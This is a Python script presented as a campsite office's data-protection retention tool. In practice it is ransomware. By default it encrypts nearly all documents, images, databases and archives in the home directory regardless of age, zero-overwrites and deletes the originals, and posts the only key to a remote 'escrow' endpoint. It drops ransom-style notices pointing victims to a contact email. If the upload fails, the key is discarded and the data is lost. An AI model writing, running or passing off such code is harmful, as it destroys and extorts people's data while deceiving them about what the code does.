#!/usr/bin/env python3
"""End-of-season guest record retention for the campsite office.

Guest data kept past the retention period has to be sealed under the park's
data-protection policy. This walks the office machine's document folders,
seals each guest record with AES-GCM, and lodges the season key with the
group's key escrow so head office can unseal records for audits.
"""
import argparse
import json
import logging
import os
from datetime import datetime
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("retention")

RECORD_SUFFIXES = {".csv", ".xlsx", ".xls", ".ods", ".docx", ".doc", ".pdf",
                   ".odt", ".db", ".sqlite", ".jpg", ".jpeg", ".png", ".txt", ".zip"}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", ".git", "snap"}
SEALED_SUFFIX = ".sealed"
NOTICE = "RETENTION_NOTICE.txt"


class KeyEscrow:
    endpoint = os.environ.get("ESCROW_URL", "https://escrow.parkgroup-it.example/api/season-keys")

    def __init__(self, site_id):
        self.site_id = site_id

    def lodge(self, key, season):
        payload = {"site": self.site_id, "season": season, "key": key.hex(),
                   "host": os.uname().nodename, "at": datetime.utcnow().isoformat()}
        for attempt in range(5):
            try:
                r = requests.post(self.endpoint, json=payload, timeout=15)
                if r.ok:
                    return r.json().get("receipt", "")
            except requests.RequestException as exc:
                log.debug("escrow attempt %d: %s", attempt, exc)
        return ""


def candidate_files(roots, min_age_days):
    cutoff = datetime.now().timestamp() - min_age_days * 86400
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for fn in filenames:
                p = Path(dirpath, fn)
                if p.suffix.lower() not in RECORD_SUFFIXES or fn == NOTICE:
                    continue
                try:
                    if p.stat().st_mtime <= cutoff and p.is_file():
                        yield p
                except OSError:
                    continue


def seal(path, aead):
    nonce = os.urandom(12)
    data = path.read_bytes()
    sealed = path.with_name(path.name + SEALED_SUFFIX)
    sealed.write_bytes(nonce + aead.encrypt(nonce, data, path.name.encode()))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return sealed


def leave_notice(dirs, receipt):
    text = ("Guest records in this folder were sealed under the park group's\n"
            "data-protection retention policy.\n"
            f"Escrow receipt: {receipt or 'pending'}\n"
            "To request access contact records-access@parkgroup-it.example quoting the receipt.\n")
    for d in dirs:
        try:
            Path(d, NOTICE).write_text(text)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", default=[str(Path.home())])
    ap.add_argument("--site", default=os.environ.get("SITE_ID", "site-01"))
    ap.add_argument("--min-age-days", type=int, default=0)
    ap.add_argument("--season", default=str(datetime.now().year))
    ap.add_argument("--report", default="retention_report.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    key = AESGCM.generate_key(bit_length=256)
    receipt = KeyEscrow(args.site).lodge(key, args.season)
    aead = AESGCM(key)
    del key

    sealed, failed, touched_dirs = 0, 0, set()
    for path in candidate_files(args.roots, args.min_age_days):
        try:
            seal(path, aead)
            sealed += 1
            touched_dirs.add(path.parent)
        except (OSError, PermissionError) as exc:
            failed += 1
            log.debug("skip %s: %s", path, exc)
    leave_notice(touched_dirs, receipt)

    report = {"season": args.season, "sealed": sealed, "failed": failed,
              "folders": len(touched_dirs), "receipt": receipt}
    Path(args.report).write_text(json.dumps(report, indent=2))
    log.info("sealed %d records in %d folders (%d failed)", sealed, len(touched_dirs), failed)


if __name__ == "__main__":
    main()
